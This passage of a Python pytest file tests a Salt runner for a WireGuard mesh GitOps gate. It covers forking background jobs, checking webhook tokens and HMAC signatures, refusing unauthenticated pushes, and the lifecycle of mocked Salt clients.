        gateway = data["wgmesh"]["gateways"]["a"]
        gateway["lan_mode"] = "masquerade"
        del gateway["lan_router"]
    upstream.edit_yaml("wgmesh/network.sls", masquerade)
    upstream.commit("a masquerades: r1 needs no route")
    result = runner.on_push()
    assert result["removed"] == {"r1": {"removed": ["wg0"]}} and client.removals == [["r1"]]
    assert "r1" not in result["applied"] and all("r1" not in job for job in client.jobs)


class RunnerClient:
    """MOCK of salt.runner.RunnerClient (no salt-master runs in a unit test): its ``low`` (the
    job, run in the process ``fork_job`` forks) writes what it was given, the process it ran in
    and whether the client was loaded before the fork, a JSON line to ``record``."""
    made: list = []
    record = None       # a file: one line per job run
    tag_prefix = "run"

    def __init__(self, opts):
        self.opts, self.loaded, self.destroyed = opts, set(), False
        RunnerClient.made.append(self)

    def destroy(self):
        self.destroyed = True

    @property
    def mminion(self):
        self.loaded.add("mminion")
        return object()

    @property
    def functions(self):
        self.loaded.add("functions")
        return iter(["wgmesh.on_push"])

    def low(self, fun, low):
        go = RunnerClient.record.with_suffix(".go")     # the test lets the jobs finish
        deadline = time.monotonic() + 5
        while not go.exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        with open(RunnerClient.record, "a") as out:
            out.write(json.dumps({"fun": fun, "low": low, "pid": os.getpid(), "session": os.getsid(0),
                                  "loaded": sorted(self.loaded), "client": RunnerClient.made.index(self),
                                  "stdout": os.readlink("/proc/self/fd/1"), "cwd": os.getcwd(),
                                  "umask": os.umask(0o022)}) + "\n")


def children() -> set:
    """The pids of this process's children, exited ones not yet reaped included (other tests of
    the session may have children of their own running)."""
    pids = set()
    for task in os.listdir("/proc/self/task"):
        try:
            pids.update(int(pid) for pid in open(f"/proc/self/task/{task}/children").read().split())
        except FileNotFoundError:   # a thread that ended meanwhile
            pass
    return pids


def jobs_run(count, timeout=10):
    """The jobs ``RunnerClient.low`` recorded, once ``count`` of them have (they run in processes
    of their own, and wait for this)."""
    RunnerClient.record.with_suffix(".go").touch()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        lines = RunnerClient.record.read_text().splitlines() if RunnerClient.record.exists() else []
        if len(lines) >= count:
            return [json.loads(line) for line in lines]
        time.sleep(0.01)
    raise AssertionError(f"{count} jobs expected to run, not all did")


@pytest.fixture
def webhook(opts, tmp_path, monkeypatch, configure_loader_modules):
    """The gate's webhook secret in a file, the master's event bus and runner client recorded."""
    import salt.runner
    secret_file = tmp_path / "webhook.secret"
    secret_file.write_text("s3cret-token\n")
    opts["wgmesh_gitops"] = {"upstream": "https://git.example.invalid/pillar.git",
                             "webhook_secret_file": str(secret_file)}
    fired = []
    monkeypatch.setattr(runner, "_fire", lambda tag, data: fired.append((tag, data)))
    monkeypatch.setattr(salt.runner, "RunnerClient", RunnerClient)
    monkeypatch.setattr(RunnerClient, "made", [])
    monkeypatch.setattr(RunnerClient, "record", tmp_path / "jobs.jsonl")
    monkeypatch.setattr(runner.wgmesh_salt.warm, "_job_client", None)
    return secret_file, fired


def test_on_push_async_starts_on_push_as_a_runner_job_of_a_process_of_its_own(webhook):
    started, umask, before = time.monotonic(), os.umask(0o077), children()   # the jobs' umask is not this one
    try:
        first, second = runner.on_push_async(), runner.on_push_async(allow_rewind="yes")
    finally:
        os.umask(umask)
    assert time.monotonic() - started < 4, "it waited for the jobs (each waits 5 s for jobs_run)"
    assert first["result"] == second["result"] == "started" and first["jid"] != second["jid"]
    jobs = sorted(jobs_run(2), key=lambda job: job["low"]["kwarg"]["allow_rewind"])
    for job, started, rewind in zip(jobs, (first, second), (False, True)):
        assert job["fun"] == "wgmesh.on_push"
        assert job["low"] == {"fun": "wgmesh.on_push", "arg": [], "kwarg": {"allow_rewind": rewind},
                              "__jid__": started["jid"], "__user__": "wgmesh",
                              "__tag__": f"salt/run/{started['jid']}"}
        # a daemon's: not this process, a session of its own, nothing written where this one writes
        assert job["pid"] != os.getpid() and job["session"] not in (os.getsid(0), job["pid"])
        assert job["stdout"] == os.devnull and job["cwd"] == "/" and job["umask"] == 0o022
        assert job["loaded"] == ["functions", "mminion"], "forked before the client was loaded"
    assert [job["client"] for job in jobs] == [0, 0], "each push forks the one client the first push loaded"
    assert children() - before == set(), "a child of this process is left (a zombie to reap)"


def test_a_job_that_fails_ends_in_its_own_process(webhook, monkeypatch):
    def failing(self, fun, low):
        raise RuntimeError("the job broke")
    monkeypatch.setattr(RunnerClient, "low", failing)
    pid, before = os.getpid(), children()
    assert runner.on_push_async()["result"] == "started"
    assert os.getpid() == pid       # the caller carries on, in its own process (not a child's)
    assert children() - before == set()


def test_the_gate_forks_from_one_client_until_the_runners_files_change(webhook, monkeypatch):
    """The reactor loads the runner module anew every reactor_refresh_interval: the client
    stays while the runner's files do; a sync that replaces them gets a new one."""
    runner.on_push_async()
    reloaded = load_adapter("_runners", "wgmesh")      # the module loaded again, from the same files
    reloaded.__opts__ = runner.__opts__
    reloaded.on_push_async()
    assert len(RunnerClient.made) == 1 and [job["client"] for job in jobs_run(2)] == [0, 0]
    stamp = runner._runner_stamp()
    monkeypatch.setattr(runner, "_runner_stamp", lambda: (stamp[0], stamp[1] + 1, stamp[2]))   # synced anew
    runner.on_push_async()
    assert len(RunnerClient.made) == 2 and all(c.loaded == {"mminion", "functions"} for c in RunnerClient.made)
    assert jobs_run(3)[2]["client"] == 1
    assert [c.destroyed for c in RunnerClient.made] == [True, False], "the replaced client is closed"


def started_the_gate(result) -> bool:
    """``result`` says a job started, and that job ran ``on_push`` (without ``allow_rewind``)."""
    [job] = jobs_run(1)
    return result == {"result": "started", "jid": job["low"]["__jid__"]} and job["fun"] == "wgmesh.on_push" \
        and job["low"]["kwarg"] == {"allow_rewind": False}


def test_a_webhook_with_the_gitlab_token_starts_the_gate(webhook):
    assert started_the_gate(runner.on_webhook(headers={"x-gitlab-token": "s3cret-token"}, body="{}"))
    assert webhook[1] == []


def test_a_webhook_signed_with_the_secret_starts_the_gate(webhook):
    import hashlib
    import hmac
    body = '{"ref": "refs/heads/main", "after": "0123abc"}'
    signature = "sha256=" + hmac.new(b"s3cret-token", body.encode(), hashlib.sha256).hexdigest()
    assert started_the_gate(runner.on_webhook(headers={"X-Hub-Signature-256": signature}, body=body))


NO_MATCH = "the webhook's token or signature does not match the shared secret"


@pytest.mark.parametrize("headers, body", [
    ({"X-Gitlab-Token": "guess"}, "{}"),
    ({"X-Gitlab-Token": "s3cret-token\n"}, "{}"),
    ({"X-Hub-Signature-256": "sha256=" + "0" * 64}, "{}"),
    ({}, "{}"),
    (None, None),
])
def test_a_webhook_without_the_right_token_or_signature_fetches_nothing(webhook, headers, body):
    assert runner.on_webhook(headers=headers, body=body) == {"result": "unauthenticated", "problems": [NO_MATCH]}
    assert webhook[1] == [("wgmesh/gate/unauthenticated", {"problems": [NO_MATCH]})]
    assert RunnerClient.made == [], "no job was started"


def test_without_a_secret_no_webhook_is_trusted(webhook):
    secret_file, fired = webhook
    secret_file.write_text("\n")
    why = f"no webhook secret ({secret_file} is empty)"
    assert runner.on_webhook(headers={"X-Gitlab-Token": ""}, body="{}") == {"result": "unauthenticated",
                                                                           "problems": [why]}
    secret_file.unlink()
    why_missing = f"no webhook secret (No such file or directory: {secret_file})"
    assert runner.on_webhook(headers={"X-Gitlab-Token": "s3cret-token"})["problems"] == [why_missing]
    assert fired == [("wgmesh/gate/unauthenticated", {"problems": [why]}),
                     ("wgmesh/gate/unauthenticated", {"problems": [why_missing]})]
    assert RunnerClient.made == [], "no job was started"


class MadeClient:
    """A LocalClient the runner made (through the shared MOCK ``client``): whether git was fetching
    the branch when it was made, the functions published through it, and whether it was destroyed."""

    def __init__(self, shared, fetching):
        self.shared, self.during_fetch = shared, fetching.is_set()
        self.functions, self.destroyed = [], False

    def run_job(self, targets, functions, *args, **kwargs):
        self.functions += functions
        return self.shared.run_job(targets, functions, *args, **kwargs)

    def get_cli_event_returns(self, *args, **kwargs):
        return self.shared.get_cli_event_returns(*args, **kwargs)

    def cmd(self, targets, functions, *args, **kwargs):
        self.functions += [functions] if isinstance(functions, str) else functions
        return self.shared.cmd(targets, functions, *args, **kwargs)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.destroy()

    def destroy(self):
        self.destroyed = True


@pytest.fixture
def made(gitops, client, monkeypatch):
    """Every LocalClient the runner makes (``MadeClient``); git's fetch of the branch waits until
    one is made (it times out if the runner made its client only after the fetch)."""
    import git
    made, fetching, one_made = [], threading.Event(), threading.Event()

    def fetch(self, *args, **kwargs):
        fetching.set()
        try:
            assert one_made.wait(10), "no LocalClient was made while git fetched"
            return self._call_process("fetch", *args, **kwargs)
        finally:
            fetching.clear()
    monkeypatch.setattr(git.cmd.Git, "fetch", fetch, raising=False)
    monkeypatch.setattr(runner, "_local_client",
                        lambda: made.append(MadeClient(client, fetching)) or one_made.set() or made[-1])
    return made


def test_the_hand_off_goes_out_through_a_client_made_while_git_fetched(made, upstream, client, bus):
    runner.on_push()
    made.clear()
    from tests.onboard.conftest import new_public_key
    upstream.add_developer("g", "10.70.0.9", new_public_key(), lan_access="none")
    upstream.commit("g")
    assert runner.on_push()["result"] == "applied"
    assert made[0].during_fetch and made[0].functions == ["wgmesh.set_peers"]
    assert not any(m.during_fetch for m in made[1:]) and all(m.destroyed for m in made)


@pytest.mark.parametrize("outcome", ["refused", "unchanged"])
def test_a_push_that_hands_nothing_off_lets_its_spare_client_go(made, upstream, client, outcome):
    runner.on_push()
    made.clear()
    if outcome == "refused":
        upstream.add_developer("g", "10.70.0.4", "0VooFEp8ZdpZp3P7BPa2W3piw+eu/6cyUGpSUWZp4HA=")
        upstream.commit("g takes e's address")
    assert runner.on_push()["result"] == outcome
    assert len(made) == 1 and made[0].during_fetch and made[0].functions == [] and made[0].destroyed
